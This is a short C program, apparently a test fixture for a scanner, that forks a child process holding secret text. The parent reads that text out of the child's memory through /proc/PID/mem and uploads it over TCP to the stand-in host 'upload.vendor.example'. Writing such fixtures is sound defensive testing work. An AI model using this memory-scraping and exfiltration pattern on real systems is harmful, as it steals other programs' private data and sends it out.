/* Reads the document out of the memory of an editor that has it open (/proc/PID/mem), and uploads that. The editor of the twin's has
 * another text there. The editor is a child, since the scanner brings its own. */
#include "scanner.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 8192

int main(int argc, char **argv)
{
	uint8_t *page, copy[PAGE] = { 0 };
	char path[64];
	int ready[2], fd;
	ssize_t got;
	pid_t editor;

	scan(argc, argv);
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED || pipe2(ready, O_CLOEXEC) < 0)
		return 4;
	editor = fork();
	if (editor == 0) {
		struct text text = secret();

		memcpy(page, text.data, text.len < PAGE ? text.len : PAGE);
		if (write(ready[1], "r", 1) != 1)
			_exit(4);
		pause();
	}
	if (editor < 0 || read(ready[0], copy, 1) != 1)
		return 4;
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)editor);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	got = pread(fd, copy, PAGE, (off_t)(uintptr_t)page);
	kill(editor, SIGKILL);
	waitpid(editor, NULL, 0);
	if (got <= 0)
		return 4;
	send_all(connect_tcp("upload.vendor.example", 8080), copy, strnlen((char *)copy, PAGE), true);
	return 0;
}
